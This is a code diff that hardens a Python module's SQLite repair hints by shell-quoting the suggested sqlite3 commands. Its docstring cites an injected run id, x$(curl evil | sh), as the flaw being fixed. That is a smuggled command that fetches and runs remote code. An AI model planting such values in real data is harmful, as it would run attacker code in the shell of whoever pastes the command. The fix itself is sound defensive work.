@@ -14,6 +14,7 @@ from __future__ import annotations
 import errno
 import functools
 import os
+import shlex
 import sqlite3
 import stat
 import urllib.parse
@@ -270,8 +271,8 @@ def damaged(path: Path, exc: sqlite3.DatabaseError) -> JournalFormatError | None
         return None
     return JournalFormatError(
         f"the journal {path} is damaged: SQLite says {text!r}. Nothing was written by this operation. Keep a "
-        f"copy of the file; `sqlite3 {path} 'PRAGMA integrity_check'` shows the damage, and "
-        f"`sqlite3 {path} .recover | sqlite3 recovered.db` saves what can be read (then "
+        f"copy of the file; `sqlite3 {shlex.quote(str(path))} 'PRAGMA integrity_check'` shows the damage, and "
+        f"`sqlite3 {shlex.quote(str(path))} .recover | sqlite3 recovered.db` saves what can be read (then "
         f"SqliteStore('recovered.db'))."
     )
 
@@ -279,4 +280,20 @@ def damaged(path: Path, exc: sqlite3.DatabaseError) -> JournalFormatError | None
 def bad_row(path: Path, exc: BadRow) -> JournalFormatError:
     """``exc`` (:mod:`.bad_rows`) with the journal's path and the sqlite3 command that fixes the row."""
     fix = exc.fix()
-    return journal_error(str(path), exc, f"sqlite3: sqlite3 {path} \"{fix}\"" if fix else None)
+    return journal_error(str(path), exc, f"sqlite3: {shell_command(path, fix)}" if fix else None)
+
+
+_SHELL_SPECIAL = frozenset('"$`\\!')
+"""What a POSIX shell still reads inside double quotes (``!``: bash's history expansion)."""
+
+
+def shell_command(path: Path | str, sql: str) -> str:
+    """``sqlite3 PATH "SQL"``, which a person pastes into a shell: quoted so it runs ``sql`` and nothing else.
+
+    Why: the statement quotes the row's values, which the journal's sender chose; in double quotes as they
+    were, a run id ``x$(curl evil | sh)`` ran that command in the shell of the person fixing the file, and a
+    run id holding ``"`` or a path with a space broke the command. Double quotes are kept when nothing in
+    ``sql`` is special there (the common case reads as before), else :func:`shlex.quote`.
+    """
+    quoted = f'"{sql}"' if _SHELL_SPECIAL.isdisjoint(sql) else shlex.quote(sql)
+    return f"sqlite3 {shlex.quote(str(path))} {quoted}"
